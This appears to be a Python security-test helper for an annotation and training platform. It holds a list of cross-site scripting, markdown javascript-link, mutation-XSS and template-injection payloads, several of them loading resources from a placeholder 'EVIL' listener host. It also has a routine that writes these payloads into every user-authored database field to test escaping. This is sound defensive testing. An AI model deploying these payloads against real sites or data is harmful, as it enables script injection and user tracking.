"""Texts that are scripts somewhere, and a world that holds them in every field that a person, a file or a model fills."""

# ruff: noqa: E501 (a payload is one line)

from __future__ import annotations

from typing import Any

from sqlalchemy import JSON, Column, Table, select, update

from app.core.db.base import Base
from app.core.db.database import Database

MARK = "pw9z"
RUN = "window.__xss=1"
PAYLOADS = [
    f"<script {MARK}>{RUN}</script>",
    f"<svg {MARK} onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<img {MARK} src=x onerror={RUN}>",
    f'"><img {MARK} src=//EVIL/a onerror="{RUN}">',
    f"' autofocus onfocus='{RUN}' {MARK}='",
    f'" autofocus onfocus={RUN} {MARK}="',
    f"</textarea></title></select></option></template><b {MARK} onclick={RUN}>x</b>",
    f"</script><script {MARK}>{RUN}</script>",
    f"--><b {MARK}>--!><!-- <![CDATA[ <b {MARK}> ]]>",
    f"[a](javascript:{RUN}) [b](JaVaScRiPt&colon;{RUN}) [c](java\tscript:{RUN}) [d](&#106;avascript:{RUN}) [e](\x01javascript:{RUN})",
    f"[f](data:text/html;base64,PHNjcmlwdD4=) [g](vbscript:msgbox) <javascript:{RUN}> [h][r]\n\n[r]: javascript:{RUN}",
    "![x](http://EVIL/pixel?q=1) ![y](//EVIL/pixel) ![z][i]\n\n[i]: http://EVIL/reference",
    f'[l](http://EVIL/ "t\\" onmouseover={RUN} {MARK}=\\"") `<b {MARK}>`',
    "{{7*7}} {% for x in (1,) %}{% endfor %} ${7*7} #{7*7} <%= 7*7 %> {{''.__class__}}",
    f"<math><mtext><table><mglyph><style><!--</style><img {MARK} title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f'<noscript><p title="</noscript><img {MARK} src=x onerror={RUN}>">',
    f"<template><style></template><b {MARK}></b></style><svg></p><style><a id='</style><img {MARK} src=1 onerror={RUN}>'>",
    f"<iframe {MARK} srcdoc='<script>parent.__xss=1</script>'></iframe><iframe src=//EVIL/f {MARK}></iframe>",
    f"<meta {MARK} http-equiv=refresh content='0;url=//EVIL/m'><base {MARK} href=//EVIL/><link {MARK} rel=stylesheet href=//EVIL/c>",
    f"<p {MARK} style='background:url(//EVIL/s);width:expression({RUN})'><style {MARK}>@import '//EVIL/i';</style>",
    f"<a/{MARK}/onmouseover\n=\n{RUN}//><details {MARK} open ontoggle={RUN}><video {MARK}><source onerror={RUN}></video>",
    f"\\u003cimg {MARK} src=x onerror={RUN}\\u003e &lt;img {MARK} src=x onerror={RUN}&gt; %3Cimg%20{MARK}%3E ＜script＞",
    f"<div {MARK} hx-get=//EVIL/h hx-trigger=load></div><div {MARK} hx-on::load='{RUN}' data-hx-get=/x></div>",
    f"<div {MARK} data-chart=bars data-series='{{}}' data-events=//EVIL/e data-renew=//EVIL/r data-autosave=//EVIL/a data-copy=x data-confirm=x>",
    f"<object {MARK} data=//EVIL/o></object><embed {MARK} src=//EVIL/b><form {MARK} action=//EVIL/p><button formaction=javascript:{RUN}>",
    f"<x onclick={RUN} {MARK} tabindex=1 autofocus>\u202e<b {MARK}>\u2066\U000e0041\x08",
]

FILL = {
    "persons": ["name"],
    "api_tokens": ["name"],
    "web_sessions": ["user_agent"],
    "projects": ["name", "base_model", "domains", "criteria"],
    "terms": ["text"],
    "guidelines": ["text"],
    "rounds": ["title", "brief", "targets"],
    "revisions": ["messages", "context", "tags", "source", "licence", "problems", "prompt", "completion"],
    "pair_tags": ["value"],
    "reviews": ["comment", "ratings"],
    "dataset_versions": ["name", "filters", "distribution", "leak_report"],
    "training_runs": ["error", "recipe"],
    "run_events": ["payload"],
    "evaluation_reports": ["payload"],
    "evaluation_answers": ["payload"],
    "findings": ["tag", "value", "title", "note", "failing"],
    "jobs": ["payload", "result", "error", "reason", "worker"],
}
KEPT = {
    "role",
    "id",
    "code",
    "severity",
    "span",
    "pair",
    "revision",
    "state",
    "kind",
    "primary",
    "metric",
    "a",
    "b",
    "version",
    "method",
    "project",
    "user",
    "file",
    "format",
    "outcome",
    "sha256",
    "schedule",
}
TAGGED = {"tags", "filters", "distribution", "ratings"}


def text_for(evil: str) -> str:
    """All payloads, each a block of its own, aimed at the listener."""
    return "\n\n".join(PAYLOADS).replace("EVIL", evil)


def fill(database: Database, text: str) -> int:
    """Every authored field of every row, past all checks; how many fields hold the payloads now."""
    filled = 0
    with database.session() as session:
        for name, columns in FILL.items():
            table: Table = Base.metadata.tables[name]
            keys = list(table.primary_key.columns)
            for row in session.execute(select(table)).mappings().all():
                values = {column: _filled(table.c[column], row[column], text) for column in columns}
                session.execute(update(table).where(*(key == row[key.name] for key in keys)).values(values))
                filled += len(columns)
    return filled


def _filled(column: Column[Any], value: Any, text: str) -> Any:
    if not isinstance(column.type, JSON):
        return text
    if column.name in TAGGED:
        return {**(value or {}), text: _tagged(column.name, text)}
    return _leaves(value, text)


def _tagged(name: str, text: str) -> Any:
    return {text: {"train": 3, "test": 1}} if name == "distribution" else 3 if name == "ratings" else text


def _leaves(value: Any, text: str, key: str = "") -> Any:
    if isinstance(value, str):
        return value if key in KEPT else text
    if isinstance(value, list):
        return [_leaves(one, text, key) for one in value]
    if isinstance(value, dict):
        return {
            name: {**one, text: text} if name == "tags" and isinstance(one, dict) else _leaves(one, text, name)
            for name, one in value.items()
        }
    return value
